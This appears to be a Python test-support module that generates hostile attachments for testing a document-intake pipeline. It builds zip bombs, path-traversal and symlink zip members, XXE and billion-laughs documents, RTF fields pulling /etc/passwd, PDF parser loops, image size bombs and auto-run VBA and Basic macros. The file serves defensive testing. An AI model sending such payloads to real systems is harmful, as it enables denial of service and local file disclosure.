"""Hostile attachments, built in memory in a fraction of a second however much they expand to.

Nothing here is committed as a file: each generator writes the bytes a sender could, and the
bombs are built so that what is generated stays small (a few MB at most) whatever it claims or
inflates to. Issue 9 lists the cases; each has its generator here.
"""
from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib

import olefile
from PIL import Image

from pipeline.demo.samples import zip_bytes
from tests.support.cfb import compound_file

MIB = 1 << 20
GIB = 1 << 30
PASSWD = "/etc/passwd"


# ---- deflate and zip, by hand -------------------------------------------------------------

def _deflate_repeated(chunk: bytes, times: int) -> bytes:
    """A raw deflate stream of `chunk` × `times`, compressing the chunk only once.

    After a full flush the compressor holds no history, so each repeat of the same chunk
    compresses to the same bytes: the block is copied instead of recomputed.
    """
    first = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = first.compress(chunk) + first.flush(zlib.Z_FULL_FLUSH)
    tail = zlib.compressobj(9, zlib.DEFLATED, -15)
    return block * times + tail.flush(zlib.Z_FINISH)


def _crc_repeated(chunk: bytes, times: int, crc: int = 0, checksum=zlib.crc32) -> int:
    """The checksum (CRC-32, or Adler-32 for zlib streams) of `chunk` × `times` after `crc`."""
    for _ in range(times):
        crc = checksum(chunk, crc)
    return crc


def deflated_zeros(mib: int) -> bytes:
    """Raw deflate of `mib` MiB of zeros (about 1 KB a MiB), in milliseconds."""
    return _deflate_repeated(bytes(MIB), mib)


def stored_zip(members: list[tuple[str, bytes, int, int]]) -> bytes:
    """A zip of already-deflated members: (name, deflated, uncompressed size, crc32)."""
    out, central = io.BytesIO(), io.BytesIO()
    for name, data, size, crc in members:
        offset, raw = out.tell(), name.encode("utf-8")
        fields = (20, 0x800, 8, 0, 0, crc, len(data), size, len(raw))
        out.write(struct.pack("<4s5H3L2H", b"PK\x03\x04", *fields, 0) + raw + data)
        central.write(struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, *fields, 0, 0, 0, 0, 0,
                                  offset) + raw)
    directory = central.getvalue()
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, len(members), len(members),
                      len(directory), out.tell(), 0)
    return out.getvalue() + directory + end


def local_header(name: str, compressed: int, size: int, crc: int, method: int = 8) -> bytes:
    raw = name.encode()
    return struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0x800, method, 0, 0, crc, compressed,
                       size, len(raw), 0) + raw


def raw_zip(body: bytes, entries: list[tuple[str, int, int, int, int]]) -> bytes:
    """`body` (local headers and data as given) and a central directory of
    (name, local header offset, compressed size, size, crc): entries may point anywhere."""
    central = b"".join(
        struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0x800, 8, 0, 0, crc, compressed,
                    size, len(name.encode()), 0, 0, 0, 0, 0, offset) + name.encode()
        for name, offset, compressed, size, crc in entries)
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, len(entries), len(entries),
                      len(central), len(body), 0)
    return body + central + end


# ---- ZIP ------------------------------------------------------------------------------------

def zip_zeros(mib: int) -> bytes:
    """One member of `mib` MiB of zeros, its size honestly declared."""
    deflated, crc = deflated_zeros(mib), _crc_repeated(bytes(MIB), mib)
    return raw_zip(local_header("zeros.bin", len(deflated), mib * MIB, crc) + deflated,
                   [("zeros.bin", 0, len(deflated), mib * MIB, crc)])


def zip_bomb_nested(depth: int = 4, width: int = 8) -> bytes:
    """Zips of zips: each level holds `width` copies of the level below; 256 MiB at the bottom
    (8⁴ × 256 MiB = 1 PiB in 8 KB)."""
    chunk = b"\x00" * (16 << 20)
    leaf = stored_zip([("zeros.bin", _deflate_repeated(chunk, 16), 256 << 20,
                        _crc_repeated(chunk, 16))])
    level = leaf
    for _ in range(depth):
        level = zip_bytes({f"{i}.zip": level for i in range(width)})
    return level


def zip_of_bombs(inner: int = 16) -> bytes:
    """A zip (stored) of `inner` zips, each holding 256 MiB of zeros: 4 GiB in 4 MB."""
    leaf = zip_zeros(256)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as out:
        for i in range(inner):
            out.writestr(f"{i}.zip", leaf)
    return buffer.getvalue()


def zip_overlap_same_header(entries: int = 150) -> bytes:
    """Fifield's non-recursive bomb at its plainest: every directory entry points at one local
    file (fewer entries than the member limit, so the overlap is what gives it away)."""
    kernel = deflated_zeros(1)
    crc = zlib.crc32(bytes(MIB))
    body = local_header("0", len(kernel), MIB, crc) + kernel
    return raw_zip(body, [(str(i), 0, len(kernel), MIB, crc) for i in range(entries)])


def zip_overlap_quoted(files: int = 200) -> bytes:
    """Fifield's overlapping bomb: file i's deflate stream quotes file i+1's local header in a
    stored block and goes on with file i+1's data, down to one shared kernel of zeros; every
    file is a valid member and all of them inflate the kernel again."""
    kernel, zeros = deflated_zeros(1), bytes(MIB)
    data, headers_after, entries = kernel, b"", []
    for i in reversed(range(files)):
        output_crc = zlib.crc32(zeros, zlib.crc32(headers_after))
        header = local_header(f"{i:03d}.bin", len(data), len(headers_after) + MIB, output_crc)
        entries.append((f"{i:03d}.bin", len(data), len(headers_after) + MIB, output_crc))
        quote = b"\x00" + struct.pack("<HH", len(header), len(header) ^ 0xFFFF)
        data, headers_after = quote + header + data, header + headers_after
    body = data[5:]  # the file starts with file 0's header, unquoted
    offsets, at = [], 0
    for name, *_ in reversed(entries):
        offsets.append(at)
        at += len(local_header(name, 0, 0, 0)) + 5
    central = [(name, offset, compressed, size, crc)
               for (name, compressed, size, crc), offset in zip(reversed(entries), offsets)]
    return raw_zip(body, central)


def zip_one_gigabyte() -> bytes:
    """One member of 1 GiB of zeros, declared as such (deflated to about 1 MB)."""
    return zip_zeros(1024)


def zip_many_members(count: int = 100_000) -> bytes:
    """`count` empty stored members (about 90 bytes each), written straight as bytes."""
    body, central = io.BytesIO(), io.BytesIO()
    for i in range(count):
        raw, offset = b"%d.txt" % i, body.tell()
        fields = (20, 0, 0, 0, 0, 0, 0, 0, len(raw))
        body.write(struct.pack("<4s5H3L2H", b"PK\x03\x04", *fields, 0) + raw)
        central.write(struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, *fields, 0, 0, 0, 0, 0,
                                  offset) + raw)
    directory = central.getvalue()
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, min(count, 0xFFFF),
                      min(count, 0xFFFF), len(directory), body.tell(), 0)
    return body.getvalue() + directory + end


def zip_lying_size() -> bytes:
    """The local header and directory say 1000 bytes; the data inflates to 1 GiB."""
    deflated = deflated_zeros(1024)
    return raw_zip(local_header("small.txt", len(deflated), 1000, 0) + deflated,
                   [("small.txt", 0, len(deflated), 1000, 0)])


def zip_traversal() -> bytes:
    """Member names that would escape a folder if anyone used them as paths."""
    return zip_bytes({"../../etc/cron.d/evil": b"* * * * * root true\n",
                      "/etc/passwd": b"root:x:0:0::/root:/bin/sh\n",
                      "C:\\Windows\\evil.bat": b"echo evil\r\n",
                      "..\\..\\evil.txt": b"evil"})


def zip_named(name: str, data: bytes = b"escaped") -> bytes:
    """An honest member and one more named `name` (a traversal, an absolute path, a drive)."""
    return zip_bytes({"材料/申报表.txt": b"form", name: data}, gbk_names=False)


def zip_symlink(target: str = PASSWD) -> bytes:
    """A Unix symbolic link member: an extracting tool would make a link to `target`."""
    link = zipfile.ZipInfo("材料/passwd.txt")
    link.external_attr = 0o120777 << 16
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as out:
        out.writestr("材料/申报表.txt", b"form")
        out.writestr(link, target)
    return buffer.getvalue()


class _EncryptedInfo(zipfile.ZipInfo):
    """Sets the "encrypted" flag (zipfile clears flag_bits when writing); readers check it
    before any byte, so the data need not really be encrypted."""

    def _encodeFilenameFlags(self):
        name, flags = super()._encodeFilenameFlags()
        return name, flags | 0x1


def zip_encrypted() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as out:
        out.writestr(_EncryptedInfo("申报表.docx"), b"\x00" * 100)
    return buffer.getvalue()


# ---- DOCX -----------------------------------------------------------------------------------

W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_DOCX_PARTS = {
    "[Content_Types].xml": (
        b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
        b'package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.'
        b'openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType='
        b'"application/xml"/><Override PartName="/word/document.xml" ContentType="application/'
        b'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'),
    "_rels/.rels": (
        b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
        b'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://'
        b'schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target='
        b'"word/document.xml"/></Relationships>'),
}


def docx_with(body: str, doctype: str = "") -> bytes:
    """A minimal .docx whose document.xml holds `body` (WordprocessingML, prefix w:)."""
    xml = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>{doctype}'
           f'<w:document xmlns:w="{W_NS}"><w:body>{body}</w:body></w:document>')
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as out:
        for name, data in _DOCX_PARTS.items():
            out.writestr(name, data)
        out.writestr("word/document.xml", xml)
    return buffer.getvalue()


def _form_row(label: str, value: str) -> str:
    cell = "<w:tc><w:p><w:r><w:t>{}</w:t></w:r></w:p></w:tc>"
    return f"<w:tr>{cell.format(label)}{cell.format(value)}</w:tr>"


def docx_gigabytes(gib: int = 2) -> bytes:
    """A .docx whose document.xml inflates to `gib` GiB of whitespace inside one paragraph."""
    head = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w='
            f'"{W_NS}"><w:body><w:p><w:r><w:t xml:space="preserve">').encode()
    chunk = b" " * (16 << 20)
    times = gib * GIB // len(chunk)
    body = zlib.compressobj(9, zlib.DEFLATED, -15)
    deflated = (body.compress(head) + body.flush(zlib.Z_FULL_FLUSH)
                + _deflate_repeated(chunk, times))
    size, crc = len(head) + len(chunk) * times, _crc_repeated(chunk, times, zlib.crc32(head))
    parts = [(name, zlib.compress(data)[2:-4], len(data), zlib.crc32(data))
             for name, data in _DOCX_PARTS.items()]
    return stored_zip(parts + [("word/document.xml", deflated, size, crc)])


def docx_empty_paragraphs(count: int = 3_000_000) -> bytes:
    """`count` empty paragraphs: 18 MB of XML in a 27 KB file (17 s and 1 GiB to read)."""
    return docx_with("<w:p/>" * count)


def docx_xxe(path: str = PASSWD) -> bytes:
    """An external entity naming a local file, used where the unit's name goes: a parser that
    resolved it would put the file into the form's fields, the database and the reply."""
    doctype = f'<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file://{path}">]>'
    table = f"<w:tbl>{_form_row('单位名称', '&xxe;')}{_form_row('联系人', '&xxe;')}</w:tbl>"
    return docx_with(f"<w:p><w:r><w:t>案例征集申报表</w:t></w:r></w:p>{table}", doctype)


def docx_billion_laughs(levels: int = 10) -> bytes:
    """The classic: ten entities, each ten of the one before: 10¹⁰ "lol"s from 1 KB."""
    entities = '<!ENTITY lol0 "lol">' + "".join(
        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, levels))
    doctype = f"<!DOCTYPE w:document [{entities}]>"
    return docx_with(f"<w:p><w:r><w:t>&lol{levels - 1};</w:t></w:r></w:p>", doctype)


def docx_deep(depth: int = 10_000) -> bytes:
    """Content controls nested `depth` deep around one paragraph (2 elements a level)."""
    return docx_with("<w:sdt><w:sdtContent>" * depth + "<w:p/>"
                     + "</w:sdtContent></w:sdt>" * depth)


# ---- PDF ------------------------------------------------------------------------------------

def pdf_endless(megabytes: int = 300) -> bytes:
    """A one-page PDF whose compressed content stream draws text `megabytes` MB long:
    pdfminer would interpret it for many minutes."""
    ops = b"BT /F1 1 Tf 10 10 Td (a) Tj ET\n" * (1 << 15)
    times = megabytes * (1 << 20) // len(ops)
    # FlateDecode wants the zlib wrapper: a header, the raw stream, the Adler-32 of the text.
    data = (b"\x78\xda" + _deflate_repeated(ops, times)
            + struct.pack(">L", _crc_repeated(ops, times, 1, zlib.adler32)))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(data) + data + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    return pdf_of_objects(objects)


def pdf_reference_loop() -> bytes:
    """The catalog is object 1, which is a reference to 2, which is a reference to 1:
    pdfminer's resolve1 follows references in a `while` loop and never returns."""
    return pdf_of_objects([b"2 0 R", b"1 0 R"])


def pdf_deep_nesting(depth: int = 200_000) -> bytes:
    """A page whose MediaBox is an array nested `depth` deep: pdfminer recurses into it."""
    return pdf_of_objects([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox " + b"[" * depth + b"0 0 595 842"
        + b"]" * depth + b" /Contents 4 0 R >>",
        b"<< /Length 5 >>\nstream\nBT ET\nendstream",
    ])


def pdf_of_objects(objects: list[bytes]) -> bytes:
    """A PDF of these numbered objects (the first the catalog), with its xref table."""
    out = io.BytesIO(b"%PDF-1.4\n")
    out.seek(0, 2)
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    out.write(b"".join(b"%010d 00000 n \n" % o for o in offsets))
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n"
              % (len(objects) + 1, xref))
    return out.getvalue()


# ---- images ---------------------------------------------------------------------------------

def png_bomb(side: int = 100_000) -> bytes:
    """A PNG header claiming side × side pixels (10^10 by default) over a few bytes of data."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return (struct.pack(">L", len(data)) + kind + data
                + struct.pack(">L", zlib.crc32(kind + data)))
    header = struct.pack(">2L5B", side, side, 8, 2, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header)
            + chunk(b"IDAT", zlib.compress(b"\x00" * 1024)) + chunk(b"IEND", b""))


def bmp_bomb(side: int = 100_000) -> bytes:
    """A BMP header claiming side × side 24-bit pixels (10^10 by default, 30 GB of data)."""
    stride = (side * 3 + 3) // 4 * 4
    info = struct.pack("<LllHHLLllLL", 40, side, side, 1, 24, 0, stride * side & 0xFFFFFFFF,
                       2835, 2835, 0, 0)
    return b"BM" + struct.pack("<L4xL", 14 + len(info) + 64, 14 + len(info)) + info + bytes(64)


def tiff_bomb(side: int = 100_000) -> bytes:
    """A little-endian TIFF whose only directory says side × side 8-bit grey pixels."""
    tags = [(256, 4, 1, side), (257, 4, 1, side), (258, 3, 1, 8), (259, 3, 1, 1),
            (262, 3, 1, 1), (273, 4, 1, 8), (277, 3, 1, 1), (278, 4, 1, side),
            (279, 4, 1, side * side & 0xFFFFFFFF)]
    entries = b"".join(struct.pack("<HHLL", *tag) for tag in tags)
    return (b"II*\x00" + struct.pack("<L", 8 + 64) + bytes(64)
            + struct.pack("<H", len(tags)) + entries + struct.pack("<L", 0))


def jpeg_bomb() -> bytes:
    """A JPEG whose frame header claims the format's largest size, 65 535 × 65 535 (4.3 × 10^9
    pixels: no JPEG can claim 10^10), over a real 8 × 8 picture's scan."""
    small = io.BytesIO()
    Image.new("RGB", (8, 8), "red").save(small, "JPEG")
    data = small.getvalue()
    sof = data.index(b"\xff\xc0")
    return data[:sof + 5] + struct.pack(">HH", 0xFFFF, 0xFFFF) + data[sof + 9:]


def jpeg_truncated(seed: int = 9) -> bytes:
    """A real 1600 × 1200 photo-like JPEG cut at a third, as an interrupted upload leaves it."""
    rng = random.Random(seed)
    image = Image.effect_noise((1600, 1200), 64).convert("RGB")
    image.paste((rng.randrange(256), 90, 40), (200, 200, 900, 700))
    out = io.BytesIO()
    image.save(out, "JPEG", quality=90)
    return truncated(out.getvalue())


def truncated(data: bytes) -> bytes:
    return data[: len(data) // 3]


# ---- LibreOffice ----------------------------------------------------------------------------

def rtf_endless(paragraphs: int = 2_000_000) -> bytes:
    """An RTF of empty paragraphs (10 MB, built at once): LibreOffice 7.4 converts 50 000 in
    3 s, 200 000 in 14 s, and had not finished 2 000 000 when killed after 5 minutes."""
    return b"{\\rtf1\\ansi " + b"\\par " * paragraphs + b"}"


def rtf_includetext(path: str = PASSWD) -> bytes:
    """Word fields that would pull a local file into the document if they were updated."""
    fields = "".join(f"{{\\field{{\\*\\fldinst {{ INCLUDETEXT \"{target}\" }}}}"
                     f"{{\\fldrslt {{见附件}}}}}}\\par "
                     for target in (path, f"file://{path}"))
    return ("{\\rtf1\\ansi\\ansicpg936 \\u21333?\\u20301?\\par " + fields + "}").encode()


def wordml_xxe(path: str = PASSWD) -> bytes:
    """Word 2003 XML (LibreOffice converts it) with an external entity for the unit's name."""
    return (f'<?xml version="1.0" encoding="UTF-8" standalone="no"?>\n'
            f'<!DOCTYPE w:wordDocument [<!ENTITY xxe SYSTEM "file://{path}">]>\n'
            '<?mso-application progid="Word.Document"?>\n'
            '<w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml">'
            '<w:body><w:p><w:r><w:t>单位名称：&xxe;</w:t></w:r></w:p></w:body>'
            '</w:wordDocument>').encode()


def _macro_lines(marker: str) -> str:
    """Basic/VBA that writes `marker`: a file appearing is the proof that the macro ran."""
    return (f'Open "{marker}" For Output As #1\r\nPrint #1, "macro ran"\r\nClose #1\r\n')


def fodt_with_macro(marker: str) -> bytes:
    """A flat OpenDocument text whose OnLoad event runs an embedded Basic macro writing
    `marker`: LibreOffice opening it with macros allowed writes the file at once."""
    code = _macro_lines(marker).replace("\r\n", "\n").replace('"', "&quot;")
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"
 xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"
 xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0"
 xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:ooo="http://openoffice.org/2004/office"
 xmlns:dom="http://www.w3.org/2001/xml-events" office:version="1.3"
 office:mimetype="application/vnd.oasis.opendocument.text">
 <office:scripts>
  <office:script script:language="ooo:Basic"><ooo:libraries>
   <ooo:library-embedded ooo:name="Standard"><ooo:module ooo:name="Module1">
    <ooo:source-code>Sub Main
{code}End Sub
</ooo:source-code></ooo:module></ooo:library-embedded>
  </ooo:libraries></office:script>
  <office:event-listeners>
   <script:event-listener script:language="ooo:script" script:event-name="dom:load"
    xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"/>
  </office:event-listeners>
 </office:scripts>
 <office:body><office:text><text:p>案例征集申报表</text:p></office:text></office:body>
</office:document>
""".encode()


def doc_with_macro(doc: bytes, marker: str) -> bytes:
    """`doc` (a Word 97 .doc) with a VBA project whose AutoOpen and Document_Open write
    `marker`: the storages and streams Word writes (MS-OVBA), in the compound file."""
    with olefile.OleFileIO(io.BytesIO(doc)) as ole:
        streams = {"/".join(path): ole.openstream(path).read() for path in ole.listdir()}
    body = _macro_lines(marker)
    module = f'Attribute VB_Name = "Module1"\r\nPublic Sub AutoOpen()\r\n{body}End Sub\r\n'
    this = ('Attribute VB_Name = "ThisDocument"\r\nAttribute VB_Base = "1Normal.ThisDocument"\r\n'
            'Attribute VB_Creatable = False\r\nAttribute VB_PredeclaredId = True\r\n'
            'Attribute VB_Exposed = True\r\n'
            f'Private Sub Document_Open()\r\n{body}End Sub\r\n')
    project = ('ID="{00000000-0000-0000-0000-000000000000}"\r\n'
               'Document=ThisDocument/&H00000000\r\nModule=Module1\r\nName="Project"\r\n'
               'HelpContextID="0"\r\nVersionCompatible32="393222000"\r\n\r\n'
               '[Host Extender Info]\r\n'
               '&H00000001={3832D640-CF90-11CF-8E43-00A0C911005A};VBE;&H00000000\r\n')
    streams.update({
        "Macros/PROJECT": project.encode(),
        "Macros/VBA/dir": _ovba_compress(_vba_dir([("ThisDocument", 0x22), ("Module1", 0x21)])),
        "Macros/VBA/_VBA_PROJECT": b"\xcc\x61\xff\xff\x00\x00\x00",
        "Macros/VBA/ThisDocument": _ovba_compress(this.encode()),
        "Macros/VBA/Module1": _ovba_compress(module.encode()),
    })
    return compound_file(streams)


def _ovba_compress(data: bytes) -> bytes:
    """MS-OVBA's "compressed" container, written with literal tokens only (every reader of
    the format must accept it): chunks of 4096 bytes, each token group a zero flag byte."""
    out = bytearray(b"\x01")
    for start in range(0, len(data), 4096):
        chunk = data[start:start + 4096]
        tokens = b"".join(b"\x00" + chunk[i:i + 8] for i in range(0, len(chunk), 8))
        if len(tokens) <= 4096:
            out += struct.pack("<H", 0xB000 | (len(tokens) + 2 - 3)) + tokens
        else:  # too long as tokens: the format's raw chunk of exactly 4096 bytes
            out += struct.pack("<H", 0x3FFF) + chunk.ljust(4096, b"\x00")
    return bytes(out)


def _vba_dir(modules: list[tuple[str, int]]) -> bytes:
    """The VBA/dir stream's records (MS-OVBA 2.3.4.2): the project, then each module (type
    0x21 procedural, 0x22 document) with its source at offset 0 of its stream."""
    def record(kind: int, data: bytes = b"") -> bytes:
        return struct.pack("<HL", kind, len(data)) + data

    def number(kind: int, value: int, size: int = 4) -> bytes:
        return record(kind, value.to_bytes(size, "little"))

    out = (number(0x01, 1) + number(0x02, 0x409) + number(0x14, 0x409) + number(0x03, 1252, 2)
           + record(0x04, b"Project") + record(0x05) + record(0x40) + record(0x06)
           + record(0x3D) + number(0x07, 0) + number(0x08, 0)
           + struct.pack("<HLLH", 0x09, 4, 1, 0)  # PROJECTVERSION: its size field says 4, it has 6
           + record(0x0C) + record(0x3C) + number(0x0F, len(modules), 2) + number(0x13, 0xFFFF, 2))
    for name, kind in modules:
        raw, wide = name.encode(), name.encode("utf-16-le")
        out += (record(0x19, raw) + record(0x47, wide) + record(0x1A, raw) + record(0x32, wide)
                + record(0x1C) + record(0x48) + number(0x31, 0) + number(0x1E, 0)
                + number(0x2C, 0xFFFF, 2) + record(kind) + record(0x2B))
    return out + record(0x10)


def zip_of_zero_zips(inner: int = 50, mib: int = 4) -> bytes:
    """A zip (stored) of `inner` zips of `mib` MiB of zeros each, every one under the ratio
    floor: 200 MiB from about 200 KB, as much as one attachment may give; ten such zips in one
    mail are what the message's own budget is for."""
    leaf = zip_zeros(mib)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as out:
        for i in range(inner):
            out.writestr(f"{i}.zip", leaf)
    return buffer.getvalue()


def pdf_page_tree_dag(levels: int = 6, fan: int = 10) -> bytes:
    """A 1 KB PDF whose page-tree nodes share their children: `fan`**`levels` pages claimed
    (a million by default), each a read of the same page."""
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>"]
    for level in range(levels):
        node = 2 + level
        kids = b" ".join(b"%d 0 R" % (node + 1) for _ in range(fan))
        parent = b" /Parent %d 0 R" % (node - 1) if level else b""
        objects.append(b"<< /Type /Pages /Kids [%s] /Count %d%s >>"
                       % (kids, fan ** (levels - level), parent))
    objects.append(b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] >>" % (levels + 1))
    return pdf_of_objects(objects)
